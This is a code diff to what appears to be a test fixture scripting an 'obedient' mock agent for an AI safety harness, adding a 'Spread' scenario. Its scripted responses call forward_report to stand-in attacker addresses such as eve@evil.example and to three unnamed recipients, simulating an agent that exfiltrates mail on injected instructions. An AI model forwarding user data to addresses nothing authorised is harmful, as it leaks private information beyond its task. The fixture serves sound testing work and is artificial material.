@@ -20,7 +20,13 @@ def _forwarding(name: str, *after: str) -> dict[str, Any]:
     }
 
 
-_UNTIL_DONE = {"thought": "answer", "goal": "^(Purge|Note|Forward)"}
+def _forwarded_to(*names: str) -> dict[str, Any]:
+    addresses = [f"{name}@x.example" for name in names]
+    calls = [{"name": "forward_report", "arguments": {"email": each}} for each in addresses]
+    return {"calls": calls}
+
+
+_UNTIL_DONE = {"thought": "answer", "goal": "^(Purge|Note|Forward|Spread)"}
 
 OBEDIENT: Final[list[dict[str, Any]]] = [
     when("plan", "^Purge", _plan("look")),
@@ -38,5 +44,9 @@ OBEDIENT: Final[list[dict[str, Any]]] = [
     when("act", "^Forward", calls("read_mail"), without=["read_mail"]),
     when("act", "^Forward", calls("forward_report", email="eve@evil.example"), step="first"),
     when("act", "^Forward", calls("forward_report", email="mallory@evil.example"), step="second"),
+    # It writes to three people at once whom nothing names, and gives up when it may not.
+    when("plan", "^Spread", {"plan": {"steps": [_forwarding("spread")]}}),
+    when("act", "^Spread", _forwarded_to("ann", "bob", "cid"), turn=1),
+    when("act", "^Spread", {"content": "I may not write to them."}),
     {"when": _UNTIL_DONE, "say": {"content": "Here is what came of it."}},
 ]
